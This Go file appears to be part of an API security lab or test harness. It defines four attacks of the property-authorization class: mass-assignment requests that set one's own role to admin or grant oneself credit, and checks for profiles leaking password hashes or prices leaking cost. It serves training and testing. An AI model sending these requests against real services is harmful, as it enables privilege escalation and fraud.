package lab

// propertyAttacks are API3: properties nobody may set or see.
func propertyAttacks() []Attack {
	own := func(a *attempt) string { return "/accounts/users/" + a.me.ID }
	return []Attack{
		{Name: "mass-assignment-role", Title: "make oneself administrator in one's own profile", Class: API3, Room: "openapi", run: func(a *attempt) (bool, error) {
			a.ask("PATCH", own(a), bearer(a.token), jsonBody(map[string]any{"name": "Mallory", "role": "admin"}))
			return a.did("mass.assignment"), nil
		}},
		{Name: "mass-assignment-credit", Title: "give oneself credit", Class: API3, Room: "openapi", run: func(a *attempt) (bool, error) {
			a.ask("PATCH", own(a), bearer(a.token), jsonBody(map[string]any{"credit_cents": 1_000_000}))
			return a.did("mass.assignment"), nil
		}},
		{Name: "excessive-profile", Title: "a profile that shows the password's hash", Class: API3, Room: "openapi", run: func(a *attempt) (bool, error) {
			a.ask("GET", own(a), bearer(a.token))
			return a.leaked("password_hash"), nil
		}},
		{Name: "excessive-item", Title: "a price list that shows what the shop paid", Class: API3, Room: "openapi", run: func(a *attempt) (bool, error) {
			a.ask("GET", "/catalogue/items")
			return a.leaked("cost_cents"), nil
		}},
	}
}
